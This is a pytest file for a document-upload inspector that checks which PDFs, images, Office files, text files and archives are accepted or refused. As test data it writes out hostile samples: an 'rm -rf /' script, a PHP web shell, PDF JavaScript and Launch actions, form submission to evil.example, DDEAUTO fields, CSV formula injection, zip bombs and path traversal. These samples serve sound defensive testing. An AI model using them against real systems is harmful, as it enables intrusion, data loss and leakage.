"""Documents looked into by the real process: what people send is taken, what harms is not, and a process may die."""

from __future__ import annotations

import asyncio
import contextlib
import io
import os
import struct
import time
import zipfile
import zlib
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import date

import psutil
import pypdf
import pytest
from PIL import Image

from adapters.inspector import process, worker
from adapters.inspector.port import (
    SHEET_PX,
    Inspection,
    InspectionFailed,
    NotAPhotograph,
    Photograph,
    PictureUnavailable,
    Source,
)
from adapters.inspector.process import ProcessInspector
from casework.documents.kinds import Kinds
from tests.support import papers
from tests.support.papers import (
    DOCM_MAIN,
    MZ,
    RTF,
    bomb,
    docx,
    excel_stream,
    linked_zip,
    odt,
    ole,
    overlapping,
    pdf,
    photograph,
    picture,
    raw_zip,
    stream,
    word_stream,
    zipped,
)

HEIC = (papers.SAMPLES / "letter.heic").read_bytes()
POLICY = Kinds(lambda: date(2026, 11, 22))
_MIB = 1024 * 1024


def source(content: bytes) -> Source:
    async def read(offset: int, length: int) -> bytes:
        return content[offset : offset + length]

    return read


@pytest.fixture
async def inspector() -> AsyncIterator[ProcessInspector]:
    found = ProcessInspector(POLICY)
    yield found
    await found.close()


async def look(inspector: ProcessInspector, name: str, content: bytes, declared: str = "") -> Inspection:
    return await inspector.inspect(source(content), len(content), name, declared)


class _Unseekable(io.RawIOBase):
    """What a program writes to that sends while it packs: sizes stand behind the parts."""

    def __init__(self) -> None:
        self.written = b""

    def writable(self) -> bool:
        return True

    def write(self, piece: object) -> int:
        self.written += bytes(piece)  # type: ignore[call-overload]
        return len(piece)  # type: ignore[arg-type]


def _streamed_zip() -> bytes:
    out = _Unseekable()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("letter.pdf", pdf())
        archive.writestr("a/note.txt", b"note")
    return out.written


def _large_zip() -> bytes:
    """As some programs always write: sizes of 64 bits, and an end for large archives."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, archive.open("letter.txt", "w", force_zip64=True) as part:
        part.write(b"text")
    small = out.getvalue()
    entries, central_bytes, central_at = struct.unpack_from("<HII", small, len(small) - 12)
    end_at = len(small) - 22
    large = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, entries, entries, central_bytes, central_at)
    locator = struct.pack("<IIQI", 0x07064B50, 0, end_at, 1)
    return small[:end_at] + large + locator + small[end_at:]


def _also_called(name: bytes) -> bytes:
    """A file with a second name in the extra field for Unicode."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("letter.txt")
        info.extra = struct.pack("<HHBI", 0x7075, 5 + len(name), 1, zlib.crc32(b"letter.txt")) + name
        archive.writestr(info, b"text")
    return out.getvalue()


def look_here(name: str, content: bytes, declared: str = "") -> Inspection:
    """The same look without a process around it."""
    refused: list[str] = []

    def refuses(inner: str, content_type: str | None) -> bool:
        why = POLICY.refuses(inner, content_type)
        refused.extend([why] if why else [])
        return why is not None

    answer = worker.inspected(io.BytesIO(content), POLICY.limits, refuses)
    return process.judged(answer, refused[0] if refused else None, POLICY, name, declared)


OFFICE = "application/vnd.openxmlformats-officedocument."
JPEG_AND_FILM = (
    photograph() + struct.pack(">I4s4s8x", 20, b"ftyp", b"mp42") + struct.pack(">I4s", 108, b"mdat") + b"a" * 100
)
TAKEN = {
    "letter.pdf": (pdf(), "application/pdf", 1),
    "Form.PDF": (pdf(objects={10: b'<</S/JavaScript/JS(AFNumber_Format\\(2, 0, 0, 0, "$", true\\);)>>'},
                    catalog=b"/X 10 0 R"), "application/pdf", 1),
    "packed.pdf": (pdf(packed={3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"}), "application/pdf", 1),
    "with paper.pdf": (pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(a)10 0 R]>>>>", objects={
        10: b"<</Type/Filespec/F(a.txt)/UF(a.txt)/EF<</F 11 0 R>>>>", 11: stream(b"a note", b"/Type/EmbeddedFile")}),
        "application/pdf", 1),
    "photo.jpg": (photograph(), "image/jpeg", 1),
    "IMG_2.JPEG": (photograph(6), "image/jpeg", 1),
    "film.jpg": (JPEG_AND_FILM, "image/jpeg", 1),
    "two.jpg": (photograph() + photograph(), "image/jpeg", 1),
    "samsung.jpg": (photograph() + b"SEFHv\0\0\0" + bytes(40) + b"SEFT", "image/jpeg", 1),
    "page.png": (picture("PNG"), "image/png", 1),
    "page.heic": (HEIC, "image/heic", 1),
    "page.webp": (picture("WEBP"), "image/webp", 1),
    "page.gif": (picture("GIF"), "image/gif", 1),
    "old scan.bmp": (picture("BMP"), "image/bmp", 1),
    "fax.tif": (picture("TIFF", save_all=True, append_images=[Image.new("RGB", (20, 20))]), "image/tiff", 2),
    "note.txt": ("Querida señora, ¿cómo está?\r\n".encode() * 5000, "text/plain", None),
    "old.txt": ("señor\n".encode("cp1252"), "text/plain", None),
    "wide.txt": ("señor, 手紙\n".encode("utf-16"), "text/plain", None),
    "sums.csv": (b"date,amount,what\n2026-01-02,-12.50,rent\n2026-01-03,+3,=SUM(B2:B3)\n", "text/plain", None),
    "nothing.txt": (b"", "application/x-empty", None),
    "one.txt": (b"a", "text/plain", None),
    "letter.rtf": (RTF, "application/rtf", None),
    "letter.docx": (docx(), OFFICE + "wordprocessingml.document", None),
    "pictures.docx": (docx(parts={"word/media/image1.jpeg": photograph()}), OFFICE + "wordprocessingml.document", None),
    "sheet in.docx": (docx(parts={"word/embeddings/Sheet.docx": docx()}), OFFICE + "wordprocessingml.document", None),
    "letter.odt": (odt(), "application/vnd.oasis.opendocument.text", None),
    "letter.doc": (ole({"WordDocument": word_stream(), "1Table": b"x"}), "application/msword", None),
    "sums.xls": (ole({"Workbook": excel_stream()}), "application/vnd.ms-excel", None),
    "slides.ppt": (ole({"PowerPoint Document": b"x"}), "application/vnd.ms-powerpoint", None),
    "all.zip": (zipped({"a/": b"", "a/letter.pdf": pdf(), "photo.jpg": photograph(), "more.zip": zipped({"b.txt": b"b"})}),
                "application/zip", None),
    "mac.zip": (zipped({"letter.pdf": pdf(), "__MACOSX/._letter.pdf": b"\0\5\x16\7" + bytes(60), ".DS_Store": b"\0\0\0\1Bud1"}),  # noqa: E501
                "application/zip", None),
    "linked.pdf": (pdf(catalog=b"/OpenAction[3 0 R/Fit]",
                       page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.irs.gov)>>>>]"), "application/pdf", 1),  # noqa: E501
    "large.zip": (_large_zip(), "application/zip", None),
    "streamed.zip": (_streamed_zip(), "application/zip", None),
    "stored.zip": (zipped({"letter.pdf": pdf()}, zipfile.ZIP_STORED), "application/zip", None),
}  # fmt: skip


@pytest.mark.parametrize("name", TAKEN)
def test_what_people_send_is_taken(name: str) -> None:
    content, content_type, pages = TAKEN[name]
    assert look_here(name, content) == Inspection(content_type, None, False, pages)


def _script(words: bytes = b"/S/JavaScript/JS(app.alert\\(1\\))") -> bytes:
    return pdf(catalog=b"/OpenAction 10 0 R", objects={10: b"<<" + words + b">>"})


def _attached(name: bytes, content: bytes) -> bytes:
    return pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(a)10 0 R]>>>>", objects={
        10: b"<</Type/Filespec/F(" + name + b")/UF(" + name + b")/EF<</F 11 0 R>>>>",
        11: stream(content, b"/Type/EmbeddedFile")})  # fmt: skip


def _relation(kind: str, target: str = "http://evil.example/x") -> bytes:
    return (f'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
            f' Target="{target}" TargetMode="External"/>').encode()  # fmt: skip


def _field(*parts: str) -> bytes:
    return b"".join(b"<w:r><w:instrText>" + part.encode() + b"</w:instrText></w:r>" for part in parts)


def _encrypted_zip() -> bytes:
    return raw_zip([(b"letter.txt", 0, b"x" * 20, {"flags": 1, "crc": 1, "length": 8})])


def _locked_pdf(password: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt(password, "owner", algorithm="AES-128") if password else writer.encrypt(
        "", "owner", algorithm="RC4-128"
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


_COMMENT = b"\xff\xfe" + struct.pack(">H", 40) + b"<script>alert(1)</script>".ljust(38)
_BIG_PNG = picture("PNG")[:16] + struct.pack(">II", 60_000, 60_000) + picture("PNG")[24:29]
_BIG_PNG += struct.pack(">I", zlib.crc32(_BIG_PNG[12:29])) + picture("PNG")[33:]

# Name, content, verdict; everything in it is refused.
REFUSED: list[tuple[str, bytes, str]] = [
    # Programs, whatever they are called
    ("letter.pdf", MZ, "executable"),
    ("photo.jpg", b"\x7fELF\2\1\1" + bytes(60), "executable"),
    ("photo.png", b"\xcf\xfa\xed\xfe\7\0\0\1" + bytes(60), "executable"),
    ("photo.heic", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60), "executable"),
    ("note.txt", b"#!/bin/sh\nrm -rf /\n", "executable"),
    ("note.txt", b"@echo off\r\ndel *.*\r\n", "executable"),
    ("note.txt", "\ufeffWindows Registry Editor Version 5.00\r\n".encode("utf-16"), "executable"),
    ("note.txt", b"[InternetShortcut]\r\nURL=file://x\r\n", "executable"),
    ("note.txt", b"<?php system($_GET['x']);", "executable"),
    ("letter.doc", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "executable"),
    ("letter.zip", zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}), "executable"),
    ("letter.zip", zipped({"AndroidManifest.xml": b"x"}), "executable"),
    ("all.zip", zipped({"letter.pdf": MZ}), "executable"),
    ("all.zip", zipped({"inner.zip": zipped({"photo.jpg": MZ})}), "executable"),
    ("mac.zip", zipped({"a.txt": b"a", "__MACOSX/._a.txt": MZ}), "executable"),
    ("letter.docx", docx(parts={"word/media/image1.png": MZ}), "executable"),
    ("letter.pdf", _attached(b"a.txt", MZ), "executable"),
    # Another kind than it says
    ("letter.pdf", picture("PNG"), "type_mismatch"),
    ("letter.jpg", pdf(), "type_mismatch"),
    ("letter", pdf(), "type_mismatch"),
    ("letter.html", b"<html><body>hello", "type_not_accepted"),
    ("letter.txt", b"  <!DOCTYPE html><script>1</script>", "type_not_accepted"),
    ("drawing.txt", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "type_not_accepted"),
    ("page.txt", b"%!PS-Adobe-3.0\n", "type_not_accepted"),
    ("letter.rar", b"Rar!\x1a\x07\x01\0" + bytes(40), "type_not_accepted"),
    ("letter.bin", os.urandom(5000), "type_not_accepted"),
    ("mail.msg", ole({"__properties_version1.0": b"x"}), "type_not_accepted"),
    ("letter.pdf", b"", "empty"),
    ("all.zip", zipped({"letter.pdf": b"a text"}), "type_mismatch"),
    ("all.zip", zipped({"page.html": b"<html>"}), "type_not_accepted"),
    ("all.zip", zipped({"a.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40)}), "type_not_accepted"),
    # Names within
    ("all.zip", zipped({"letter.pdf.exe": b"text"}), "name_extension"),
    ("all.zip", zipped({"a/lеtter.ехе": b"text"}), "name_extension"),
    ("all.zip", _encrypted_zip().replace(b"letter.txt", b"letter.exe"), "name_extension"),
    ("letter.pdf", _attached(b"a.exe", b"text"), "name_extension"),
    ("all.zip", _also_called(b"letter.exe"), "name_extension"),
    # Macros
    ("letter.docx", docx(main=DOCM_MAIN), "macros"),
    ("letter.docx", docx(parts={"word/vbaProject.bin": b"x"}), "macros"),
    ("letter.docx", docx(types=b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "macros"),
    ("letter.docx", docx(types=b'<Default Extension="b" ContentType="application/vnd.ms-office.vba&#80;roject"/>'), "macros"),  # noqa: E501
    ("sums.xlsx", docx(parts={"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
    ("letter.doc", ole({"WordDocument": word_stream(), "Macros/dir": b"x"}), "macros"),
    ("sums.xls", ole({"Workbook": excel_stream(), "_VBA_PROJECT_CUR/dir": b"x"}), "macros"),
    ("sums.xls", ole({"Workbook": excel_stream(sheet_kind=1)}), "macros"),
    ("letter.odt", odt(parts={"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
    ("all.zip", zipped({"letter.docx": docx(main=DOCM_MAIN)}), "macros"),
    # What does something by itself
    ("letter.pdf", _script(), "active_content"),
    ("letter.pdf", _script(b"/S/J#61vaScript/J#53(app.alert\\(1\\))"), "active_content"),
    ("letter.pdf", pdf(catalog=b"/OpenAction 10 0 R", packed={10: b"<</S/JavaScript/JS(x\\(\\))>>"}), "active_content"),
    ("letter.pdf", _script(b"/S/JavaScript/JS(AFNumber_Format\\(2\\);app.alert\\(1\\))"), "active_content"),
    ("letter.pdf", _script(b"/S/JavaScript/JS 4 0 R"), "active_content"),
    ("letter.pdf", _script(b"/S/JavaScript/JS<6170702E616C65727428312900>"), "active_content"),
    ("letter.pdf", _script(b"/S/Launch/Win<</F(cmd.exe)>>"), "active_content"),
    ("letter.pdf", pdf(page=b"/AA<</O<</S/Launch/F(x)>>>>"), "active_content"),
    ("letter.pdf", pdf(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"), "active_content"),
    ("letter.pdf", pdf(page=b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 10 0 R>>]", objects={
        10: b"<</Type/Filespec/F(a)/EF<</F 11 0 R>>>>", 11: stream(MZ)}), "active_content"),
    ("letter.pdf", _script(b"/S/SubmitForm/F(http://evil.example/)"), "active_content"),
    ("letter.pdf", _script(b"/S/URI/URI(http://evil.example/)"), "active_content"),
    ("letter.pdf", pdf(catalog=b"/OpenAction<</S/URI/URI(http://evil.example/)>>"), "active_content"),
    ("letter.pdf", pdf(page=b"/AA<</O 10 0 R>>", objects={10: b"<</S/URI/URI(http://evil.example/)>>"}), "active_content"),
    ("letter.docx", docx(relations=_relation("aFChunk", "page.html").replace(b"External", b"Internal")), "active_content"),
    ("letter.txt", b"\n" * 300_000 + b"<html><script>1</script>", "type_not_accepted"),
    ("letter.docx", docx(relations=_relation("attachedTemplate")), "active_content"),
    ("letter.docx", docx(relations=_relation("oleObject").replace(b"External", b"&#69;xternal")), "active_content"),
    ("letter.docx", docx(body=_field("DDEAUTO c:\\x.exe")), "active_content"),
    ("letter.docx", docx(body=_field("DD", "EAU", "TO x")), "active_content"),
    ("letter.docx", docx(body=b'<w:fldSimple w:instr="DDE x y"/>'), "active_content"),
    ("letter.docx", docx(parts={"word/activeX/activeX1.bin": b"x"}), "active_content"),
    ("letter.docx", docx(parts={"word/afchunk.mht": b"MIME-Version: 1.0"}), "active_content"),
    ("letter.docx", docx(parts={"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": b"x"})}), "active_content"),
    ("letter.docx", docx(parts={"word/x.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), "active_content"),
    ("letter.doc", ole({"WordDocument": word_stream(), "ObjectPool/\x01Ole10Native": b"x"}), "active_content"),
    ("letter.rtf", RTF[:-1] + rb"{\object\objemb{\*\objdata 0105}}}", "active_content"),
    ("letter.rtf", RTF[:-1] + rb"{\field{\*\fldinst DDEAUTO c:\\x}}}", "active_content"),
    ("letter.doc", RTF[:-1] + rb"{\*\template http://evil.example/x}}", "active_content"),
    ("sums.csv", b"a,b\n=cmd|' /C calc'!A0,2\n", "active_content"),
    ("sums.csv", b"a,b\n\"@SUM(1+1)*cmd|' /C calc'!A0\"\n", "active_content"),
    # Two things at once
    ("photo.gif", picture("GIF") + zipped({"a.txt": b"a"}), "several_formats"),
    ("photo.jpg", photograph() + zipped({"a.txt": b"a"}), "several_formats"),
    ("photo.jpg", photograph() + b"trailing words", "several_formats"),
    ("photo.jpg", photograph() + pdf(), "several_formats"),
    ("photo.jpg", photograph()[:2] + _COMMENT + photograph()[2:], "several_formats"),
    ("photo.jpg", JPEG_AND_FILM + zipped({"a.txt": b"a"}), "several_formats"),
    ("page.png", picture("PNG") + b"Rar!\x1a\x07\x01\0", "several_formats"),
    ("page.webp", picture("WEBP") + b"more and more", "several_formats"),
    ("page.heic", HEIC + b"\0\0\0\x10evil12345678", "several_formats"),
    ("fax.tif", picture("TIFF") + zipped({"a.txt": b"a"}), "several_formats"),
    ("fax.tif", picture("TIFF") + b"7z\xbc\xaf\x27\x1c", "several_formats"),
    ("letter.pdf", pdf() + zipped({"a.txt": b"a"}), "several_formats"),
    ("letter.pdf", pdf() + b"<script>1</script>", "several_formats"),
    ("letter.txt", b"some words " + pdf(), "several_formats"),
    ("letter.pdf", b"words first\n" + pdf(), "several_formats"),
    ("all.zip", b"PK\3\4" + bytes(60) + zipped({"a.txt": b"a"}), "several_formats"),
    ("all.zip", zipped({"a.txt": b"a"}) + b"behind", "several_formats"),
    ("letter.doc", ole({"WordDocument": word_stream()}) + zipped({"a.txt": b"a"}), "several_formats"),
    ("letter.rtf", RTF + b"and more", "several_formats"),
    # Archives
    ("all.zip", bomb(), "archive_unsafe"),
    ("all.zip", zipped({"inner.zip": bomb()}), "archive_unsafe"),
    ("all.zip", overlapping(), "archive_unsafe"),
    ("all.zip", raw_zip([(b"a.txt", 0, b"a", {})], comment=MZ), "several_formats"),
    ("scan.bmp", picture("BMP") + b"behind", "several_formats"),
    ("scan.tif", b"II*\0\x08\0\0\0" + b"\0\0" + b"\x08\0\0\0", "damaged"),
    ("all.zip", linked_zip(), "archive_unsafe"),
    ("all.zip", zipped({"../letter.txt": b"a"}), "archive_unsafe"),
    ("all.zip", zipped({"/letter.txt": b"a"}), "archive_unsafe"),
    ("all.zip", zipped({"C:\\letter.txt": b"a"}), "archive_unsafe"),
    ("all.zip", zipped({"a.txt": b"a", "A.TXT": b"b"}), "archive_unsafe"),
    ("all.zip", raw_zip([(b"a.txt", 0, b"a", {"local_name": 1})]), "archive_unsafe"),
    ("all.zip", raw_zip([(b"a.txt", 0, b"a", {}), (b"b.txt", 0, b"b", {})], gap=b"hidden between the files"), "archive_unsafe"),  # noqa: E501
    ("all.zip", zipped({"a.zip": zipped({"b.zip": zipped({"c.txt": b"c"})})}), "archive_unsafe"),
    ("all.zip", raw_zip([(b"a.txt", 8, zlib.compress(b"a" * 900)[2:-4], {"length": 5, "crc": 1})]), "archive_unsafe"),
    ("all.zip", zipped({f"{number}.txt": b"" for number in range(2500)}), "archive_too_large"),
    ("all.zip", zipped({"large.txt": os.urandom(70 * _MIB)}, zipfile.ZIP_STORED), "archive_too_large"),
    ("all.zip", raw_zip([(b"a.txt", 9, b"abc", {})]), "type_not_accepted"),
    # Pictures
    ("page.png", _BIG_PNG, "image_too_large"),
    ("page.gif", b"GIF89a" + struct.pack("<HH", 65_000, 65_000) + picture("GIF")[10:], "image_too_large"),
    # Cut off, or not what it begins as
    ("letter.pdf", pdf()[:-300], "damaged"),
    ("letter.pdf", b"%PDF-1.7\nnothing\n%%EOF", "damaged"),
    ("photo.jpg", photograph()[:-2000], "damaged"),
    ("page.png", picture("PNG")[:-20], "damaged"),
    ("page.gif", picture("GIF")[:-20], "damaged"),
    ("page.heic", HEIC[:-20], "damaged"),
    ("page.webp", picture("WEBP")[:-20], "damaged"),
    ("all.zip", zipped({"a.txt": b"a"})[:-10], "damaged"),
    ("all.zip", raw_zip([(b"a.txt", 0, b"abc", {"crc": 5})]), "damaged"),
    ("all.zip", raw_zip([(b"a.txt", 8, b"\xff\xff\xff\xff", {})]), "damaged"),
    ("letter.doc", ole({"WordDocument": word_stream()})[:700], "damaged"),
]  # fmt: skip


@pytest.mark.parametrize("number", range(len(REFUSED)))
def test_what_harms_is_refused(number: int) -> None:
    name, content, verdict = REFUSED[number]
    found = look_here(name, content)
    assert (found.verdict, found.unscannable) == (verdict, False), name


async def test_the_process_finds_the_same(inspector: ProcessInspector) -> None:
    for name, (content, _, _) in list(TAKEN.items())[::4]:
        assert await look(inspector, name, content) == look_here(name, content), name
    for name, content, _ in REFUSED[::7]:
        assert await look(inspector, name, content) == look_here(name, content), name


LOCKED = [
    ("all.zip", _encrypted_zip()),
    ("letter.pdf", _locked_pdf("secret")),
    ("letter.docx", ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})),
    ("letter.doc", ole({"WordDocument": word_stream(flags=0x0100)})),
    ("sums.xls", ole({"Workbook": excel_stream(encrypted=True)})),
    ("letter.odt", odt(manifest=b"<file-entry><encryption-data/></file-entry>")),
    ("all.zip", zipped({"letter.pdf": _locked_pdf("secret")})),
]


@pytest.mark.parametrize(("name", "content"), LOCKED)
def test_what_is_locked_is_unscannable(name: str, content: bytes) -> None:
    found = look_here(name, content)
    assert (found.verdict, found.unscannable) == ("encrypted", True)


def test_a_pdf_that_opens_without_its_owners_password_is_looked_into() -> None:
    assert look_here("letter.pdf", _locked_pdf("")).verdict is None


def test_what_the_device_says_must_fit() -> None:
    for said in ("application/pdf", "application/octet-stream", "", "Application/PDF; name=x"):
        assert look_here("letter.pdf", pdf(), said).verdict is None, said
    assert look_here("letter.pdf", pdf(), "image/png").verdict == "type_mismatch"
    assert look_here("a.csv", b"a,b", "application/vnd.ms-excel").verdict is None
    assert look_here("p.heic", HEIC, "image/heif").verdict is None


def test_cut_off_anywhere_is_never_taken_as_whole() -> None:
    whole = {"a.zip": zipped({"a.txt": b"aaaa"}), "a.png": picture("PNG", (20, 20)), "a.jpg": picture("JPEG", (20, 20)),
             "a.gif": picture("GIF", (20, 20)), "a.webp": picture("WEBP", (20, 20)), "a.heic": HEIC, "a.pdf": pdf(),
             "a.docx": docx(), "a.rtf": RTF}  # fmt: skip
    for name, content in whole.items():
        end = len(content.rstrip())
        for cut in range(1, end, max(1, end // 150)):
            assert look_here(name, content[:cut]).verdict is not None, (name, cut)


def test_long_text_is_read_once() -> None:
    began = time.monotonic()
    assert look_here("long.csv", b"2026-01-02;12.50;some words | here;and more!\n" * 700_000).verdict is None
    assert look_here("long.txt", b"word " * 5_000_000 + b"\0").verdict == "type_not_accepted"
    assert look_here("long.rtf", RTF[:-1] + b"word " * 5_000_000 + b"}").verdict is None
    assert time.monotonic() - began < 30


# Pictures of pages


async def test_a_page_as_a_picture(inspector: ProcessInspector) -> None:
    for content, kind in ((pdf(), "application/pdf"), (photograph(), "image/jpeg"), (HEIC, "image/heic")):
        shown = Image.open(io.BytesIO(await inspector.preview(source(content), len(content), kind, 1, 200)))
        assert shown.format == "PNG"
        assert shown.width == 200
        assert len(set(shown.convert("RGB").get_flattened_data())) > 1
        assert not shown.info


async def test_every_page_of_a_fax(inspector: ProcessInspector) -> None:
    fax = picture("TIFF", save_all=True, append_images=[Image.new("RGB", (100, 100), "blue")])
    second = Image.open(io.BytesIO(await inspector.preview(source(fax), len(fax), "image/tiff", 2, 100)))
    assert second.convert("RGB").getpixel((50, 50)) == (0, 0, 255)


@pytest.mark.parametrize(
    ("kind", "page"), [("application/pdf", 2), ("application/pdf", 0), ("text/plain", 1), ("image/png", 1)]
)
async def test_pages_that_are_not_there(inspector: ProcessInspector, kind: str, page: int) -> None:
    with pytest.raises(PictureUnavailable):
        await inspector.preview(source(pdf()), len(pdf()), kind, page, 200)


async def test_pictures_stay_within_bounds(inspector: ProcessInspector) -> None:
    long = pdf().replace(b"[0 0 612 792]", b"[0 0 1 14400]")
    shown = Image.open(io.BytesIO(await inspector.preview(source(long), len(long), "application/pdf", 1, 50_000)))
    assert shown.width <= 2400
    assert shown.height <= 4 * 2400
    with pytest.raises(PictureUnavailable):
        await inspector.preview(source(_BIG_PNG), len(_BIG_PNG), "image/png", 1, 200)


# Pages for print


async def test_pages_for_print_are_all_of_one_size_each_on_white(inspector: ProcessInspector) -> None:
    wide = picture("TIFF", (800, 200), save_all=True, append_images=[Image.open(io.BytesIO(picture()))])
    for content, kind, count in ((pdf(), "application/pdf", 1), (wide, "image/tiff", 2), (HEIC, "image/heic", 1)):
        sheets = await inspector.sheets(source(content), len(content), kind, count, 10 * _MIB)
        assert len(sheets) == count, kind
        for sheet in sheets:
            image = Image.open(io.BytesIO(sheet))
            assert (image.format, image.size, image.mode) == ("JPEG", SHEET_PX, "RGB"), kind
    sheets = await inspector.sheets(source(wide), len(wide), "image/tiff", 2, 10 * _MIB)
    first = Image.open(io.BytesIO(sheets[0]))
    # Not drawn larger than it is, and in the middle.
    assert first.getpixel((190, SHEET_PX[1] // 2 - 90)) == (255, 255, 255)
    red, green, _blue = first.getpixel((210, SHEET_PX[1] // 2 - 90))  # type: ignore[misc]
    assert red > 150 > green


async def test_what_has_fewer_pages_more_bytes_or_none_is_not_printed(inspector: ProcessInspector) -> None:
    for content, kind, count in ((pdf(), "application/pdf", 2), (_BIG_PNG, "image/png", 1), (RTF, "text/rtf", 1)):
        with pytest.raises(PictureUnavailable):
            await inspector.sheets(source(content), len(content), kind, count, 10 * _MIB)
    with pytest.raises(InspectionFailed):
        await inspector.sheets(source(pdf()), len(pdf()), "application/pdf", 1, 1000)


@pytest.mark.parametrize("wrong", ["size", "gray", "png", "lengths", "fewer"])
async def test_a_process_that_gives_other_pages_is_not_believed(monkeypatch: pytest.MonkeyPatch, wrong: str) -> None:
    size = (30_000, 10) if wrong == "size" else SHEET_PX
    content = io.BytesIO()
    Image.new("L" if wrong == "gray" else "RGB", size).save(content, "PNG" if wrong == "png" else "JPEG")
    given, told = content.getvalue(), {"lengths": [len(content.getvalue())] * (2 if wrong == "lengths" else 1)}

    async def answers(running: process._Running, _most: int = 0) -> dict[str, object]:
        running.output += given
        return told

    monkeypatch.setattr(process._Running, "answer", answers)
    count = 2 if wrong in ("lengths", "fewer") else 1
    inspector = ProcessInspector(POLICY)
    with pytest.raises(InspectionFailed):
        await inspector.sheets(source(pdf()), len(pdf()), "application/pdf", count, 10 * _MIB)
    await inspector.close()


# Photographs as pages


def _corner(page: Image.Image) -> str:
    """In which corner the red mark is."""
    wide, high = page.width - 6, page.height - 6
    corners = {"upper left": (5, 5), "upper right": (wide, 5), "lower right": (wide, high), "lower left": (5, high)}
    for name, at in corners.items():
        red, green, blue = page.convert("RGB").getpixel(at)  # type: ignore[misc]
        if red > 120 > green + blue:
            return name
    return "none"


async def _pages(inspector: ProcessInspector, made: bytes, count: int) -> list[Image.Image]:
    return [
        Image.open(io.BytesIO(await inspector.preview(source(made), len(made), "application/pdf", number, 400)))
        for number in range(1, count + 1)
    ]


def _photographs(*contents: bytes, turned: tuple[int, ...] = ()) -> list[Photograph]:
    turns = turned or (0,) * len(contents)
    return [Photograph(source(each), len(each), turn) for each, turn in zip(contents, turns, strict=True)]


async def test_photographs_become_one_document(inspector: ProcessInspector) -> None:
    kinds = (photograph(), picture("PNG"), HEIC, picture("WEBP"))
    made = bytes(await inspector.assemble(_photographs(*kinds)))
    assert (await look(inspector, "letter.pdf", made)) == Inspection("application/pdf", None, False, 4)
    for page in await _pages(inspector, made, 4):
        assert _corner(page) == "upper left"
        assert page.width > page.height


async def test_pages_are_turned(inspector: ProcessInspector) -> None:
    made = bytes(await inspector.assemble(_photographs(*[photograph()] * 4, turned=(0, 90, 180, 270))))
    corners = [_corner(page) for page in await _pages(inspector, made, 4)]
    assert corners == ["upper left", "upper right", "lower right", "lower left"]


@pytest.mark.parametrize(
    ("orientation", "corner"),
    [(1, "upper left"), (2, "upper right"), (3, "lower right"), (4, "lower left"), (5, "upper left"), (6, "upper right"),
     (7, "lower right"), (8, "lower left")],
)  # fmt: skip
async def test_photographs_stand_as_they_were_held(inspector: ProcessInspector, orientation: int, corner: str) -> None:
    made = bytes(await inspector.assemble(_photographs(photograph(orientation))))
    (page,) = await _pages(inspector, made, 1)
    assert _corner(page) == corner
    assert (page.height > page.width) == (orientation > 4)


async def test_where_and_by_what_it_was_taken_is_gone(inspector: ProcessInspector) -> None:
    assert b"PhoneMaker" in photograph()
    assert b"PhoneMaker" in HEIC
    made = bytes(await inspector.assemble(_photographs(photograph(6), HEIC)))
    document = pypdf.PdfReader(io.BytesIO(made))
    pictures = [bytes(image.data) for page in document.pages for image in page.images]
    assert len(pictures) == 2
    for mark in (b"PhoneMaker", b"Phone Model", b"Exif", b"GPS"):
        assert mark not in made
        assert all(mark not in each for each in pictures)


async def test_large_photographs_are_made_smaller(inspector: ProcessInspector) -> None:
    made = bytes(await inspector.assemble(_photographs(photograph(6, (4032, 3024)))))
    (image,) = pypdf.PdfReader(io.BytesIO(made)).pages[0].images
    assert max(image.image.size) == 2200  # type: ignore[union-attr]
    assert image.image.height > image.image.width  # type: ignore[union-attr]


async def test_what_is_no_photograph_is_named(inspector: ProcessInspector) -> None:
    for wrong in (pdf(), b"text", picture("PNG")[:-30], _BIG_PNG):
        with pytest.raises(NotAPhotograph) as told:
            await inspector.assemble(_photographs(photograph(), wrong))
        assert told.value.number == 1
    with pytest.raises(ValueError, match="pages"):
        await inspector.assemble([])
    with pytest.raises(ValueError, match="quarters"):
        await inspector.assemble(_photographs(photograph(), turned=(45,)))


# A process that fails


async def test_a_source_that_breaks_is_told(inspector: ProcessInspector) -> None:
    async def broken(offset: int, length: int) -> bytes:
        raise KeyError("the store")

    with pytest.raises(KeyError, match="the store"):
        await inspector.inspect(broken, 1000, "letter.pdf")
    assert (await look(inspector, "letter.pdf", pdf())).verdict is None


async def test_one_that_takes_too_long_is_stopped() -> None:
    async def stuck(offset: int, length: int) -> bytes:
        await asyncio.sleep(30)
        return b""

    slow = ProcessInspector(POLICY, inspect_seconds=0.6)
    try:
        began = time.monotonic()
        with pytest.raises(InspectionFailed, match="too long"):
            await slow.inspect(stuck, 1000, "letter.pdf")
        assert time.monotonic() - began < 5
    finally:
        await slow.close()


CHILDREN = {
    "crashes": "import os; os.abort()",
    "ends": "pass",
    "hangs": "import time; time.sleep(60)",
    "spins": "while True: pass",
    "says nonsense": "import os; os.write(1, b'nonsense' * 100)",
